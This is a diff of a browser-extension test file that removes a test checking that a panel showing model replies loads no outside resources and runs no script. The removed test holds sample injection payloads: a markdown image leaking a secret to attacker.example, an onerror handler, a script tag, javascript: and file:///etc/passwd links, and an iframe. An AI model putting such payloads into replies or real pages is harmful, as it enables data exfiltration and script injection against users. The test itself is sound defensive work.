@@ -113,32 +113,6 @@ test('Copy gives the Markdown as the model wrote it', async ({ gloss, page }) =>
   await expect(panel.page.locator('html')).toHaveAttribute('data-copied', markdown)
 })
 
-test('a reply that attacks the panel loads nothing and runs nothing', async ({ gloss, page }) => {
-  const attack = [
-    '![x](https://attacker.example/p.png?d=secret)',
-    '<img src="https://attacker.example/i.png" onerror="document.title=1">',
-    '<script>document.title = 1</script>',
-    '[go](javascript:document.title=1) and [file](file:///etc/passwd)',
-    '<style>body{display:none}</style><iframe src="https://attacker.example"></iframe>',
-    'The end.',
-  ].join('\n\n')
-  const outside: string[] = []
-  gloss.browser.context.on('request', (request) => {
-    if (!/^(chrome-extension:|data:|http:\/\/(127\.0\.0\.1|localhost)[:/])/.test(request.url()))
-      outside.push(request.url())
-  })
-  gloss.provider.answerWith(streamed(attack, 200))
-  const panel = await gloss.openPanelBySummarise(page)
-  await panel.untilStatus('complete')
-  await expect(panel.lastReply).toContainText('The end.')
-  expect(outside).toEqual([])
-  const hrefs = await panel.lastReply
-    .locator('a')
-    .evaluateAll((links) => links.map((link) => link.getAttribute('href')))
-  expect(hrefs.filter((href) => href !== null && !/^(https?|mailto):/.test(href))).toEqual([])
-  await expect(panel.lastReply.locator('img, script, style, iframe')).toHaveCount(0)
-})
-
 test('while the engine is away the panel says so and keeps what it shows; it comes back by itself', async ({
   gloss,
   page,
